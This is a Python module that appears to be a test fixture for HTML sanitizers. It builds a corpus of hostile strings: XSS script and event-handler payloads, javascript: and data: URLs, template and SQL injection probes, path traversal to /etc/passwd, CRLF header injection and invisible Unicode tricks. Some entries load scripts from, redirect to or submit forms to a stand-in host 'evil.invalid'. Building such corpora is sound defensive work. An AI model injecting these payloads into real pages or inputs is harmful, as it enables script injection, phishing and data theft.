"""Text that has broken pages before: markup, handlers, addresses, templates, formulas, and characters nobody sees."""

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<script src=//evil.invalid/x.js></script>",
    '<script type="module">import("//evil.invalid")</script>',
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
)
_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    '" autofocus onfocus=alert(1) tabindex=1 x="',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>1<option>2</select>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<b onpointerover=alert(1)>hover</b>",
    "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=alert(1)>",
)
_FOREIGN = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math><mtext></p><style><!--</style><img src onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<form action=//evil.invalid><button>Log in</button></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href=' &#106;avascript:alert(1)'>click</a>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.invalid/x",
    "https://evil.invalid/x?a=b&c=d#e",
    "../../../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
_LANGUAGES = (
    "{{ 7 * 7 }}",
    "{% raw %}<b>{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "![x](http://evil.invalid/x.png)",
    "[click](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "# <img src=x onerror=alert(1)>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<script>alert(1)</script>\ncode\n```",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\unicode{x3c}script\\)",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "@{label}{safe}",
    "%{name}",
    "'; DROP TABLE requests; --",
    '{"__proto__": {"polluted": true}}',
)
_UNSEEN = (
    "\u202egnp.exe\u202c",
    "\u2066<script>\u2069alert(1)",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "null\x00byte<script>alert(1)</script>",
    "line\u2028separator\u2029<script>alert(1)</script>",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u017fcript <\u017fcript>alert(1)</\u017fcript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo",
    "\ufffe\uffff\U0001f600\U000e0041",
)
HOSTILE: tuple[str, ...] = (*_SCRIPTS, *_HANDLERS, *_FOREIGN, *_ADDRESSES, *_LANGUAGES, *_UNSEEN)
_WAYS_OUT = (
    "'\"></a></span></summary></details>",
    "--></style></textarea></title></noscript></template></select></svg></math>",
    "]]></xmp></iframe></noembed></noframes><plaintext ",
)
"""Of whatever a value may stand in."""
CORPUS: tuple[str, ...] = (
    *HOSTILE,
    *(f"{way}{text}" for way in _WAYS_OUT for text in (*_SCRIPTS, *_HANDLERS, *_FOREIGN)),
)
"""For the night, and for browsers."""

_DISARMED = str.maketrans({"<": "(", ">": ")", '"': "_", "'": "_", "&": "+"})


def disarmed(text: str) -> str:
    """As long, and read the same by everything but HTML."""
    return text.translate(_DISARMED)
